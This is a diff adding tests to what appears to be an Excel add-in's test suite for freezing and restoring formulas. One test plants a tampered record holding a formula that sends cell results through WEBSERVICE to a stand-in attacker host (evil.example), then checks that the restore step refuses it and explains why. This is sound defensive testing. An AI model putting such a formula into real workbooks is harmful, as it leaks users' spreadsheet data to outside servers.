@@ -185,6 +185,49 @@ test('many formulas are frozen in few requests, stop between steps, and go on', 
   expect(office.read('B700')).toEqual([[699]]);
 });
 
+test('a record of a hand-made file brings back no formula that reaches out of the workbook, and says why', async () => {
+  await enter(mixed);
+  await freeze(options);
+  const forge = (row: number, text: string) =>
+    office.Excel.run(async (context) => {
+      const sheet = context.workbook.worksheets.getItem('Calc frozen');
+      const records = sheet.getUsedRange();
+      records.load('values, rowIndex');
+      await context.sync();
+      const values = records.values as unknown[][];
+      const at = values.findIndex(([address]) => address === `Sheet1!A${row}`);
+      sheet.getCell(records.rowIndex + at, 2).values = [[text]];
+      await context.sync();
+    });
+  await forge(1, '=WEBSERVICE("https://evil.example/"&CALC.RUN(1))');
+  const outcome = await unfreeze(control);
+  expect(outcome).toMatchObject({ restored: 3, stopped: false });
+  expect(outcome?.problems).toEqual([
+    {
+      address: 'Sheet1!A1',
+      reason:
+        'Its formula is not written: it calls WEBSERVICE, which is not known to stay inside the workbook. ' +
+        'Read it on the sheet of frozen formulas, and enter it by hand if it is yours',
+    },
+  ]);
+  await office.settled();
+  expect([formula('A1'), formula('A2')]).toEqual([31.64, mixed.A2]);
+  expect(names()).toContain('Calc frozen');
+});
+
+test('formulas with names of the workbook come back', async () => {
+  await office.Excel.run(async (context) => {
+    context.workbook.names.add('site', '=42');
+    context.workbook.worksheets.getItem('Sheet1').names.add('roof', '=Sheet1!$F$1');
+    await context.sync();
+  });
+  await enter({ F1: '7', A1: '=CALC.RUN(site)', A2: '=CALC.RUN(roof)' });
+  const before = ['A1', 'A2'].map(formula);
+  expect((await freeze(options)).frozen).toBe(2);
+  expect(await unfreeze(control)).toEqual({ restored: 2, problems: [], stopped: false });
+  expect(['A1', 'A2'].map(formula)).toEqual(before);
+});
+
 test('with nothing frozen there is nothing to bring back', async () => {
   expect(await unfreeze(control)).toBeNull();
   expect(await freeze(options)).toEqual({ frozen: 0, problems: [], stopped: false });
